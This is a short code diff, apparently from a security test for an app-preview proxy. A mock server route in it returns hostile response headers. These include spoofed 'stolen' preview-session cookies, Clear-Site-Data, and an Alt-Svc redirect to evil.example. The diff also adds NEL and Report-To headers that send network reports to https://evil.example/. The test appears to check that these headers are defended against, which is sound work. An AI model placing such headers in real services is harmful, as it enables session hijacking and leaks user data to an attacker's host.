@@ -52,6 +52,8 @@ internal static class Apps
               response.setHeader('Set-Cookie', ['mine=1; Path=/; Domain=localhost', 'miosa_preview=stolen; Path=/', '__Host-miosa_preview=stolen; Path=/; Secure', '=miosa_preview=stolen']);
               response.setHeader('Clear-Site-Data', '"cookies"');
               response.setHeader('Alt-Svc', 'h2="evil.example:443"');
+              response.setHeader('NEL', '{"report_to":"me","max_age":9,"success_fraction":1}');
+              response.setHeader('Report-To', '{"group":"me","max_age":9,"endpoints":[{"url":"https://evil.example/"}]}');
               return response.end();
             case '/early':
               response.writeEarlyHints({ link: '</style.css>; rel=preload' });
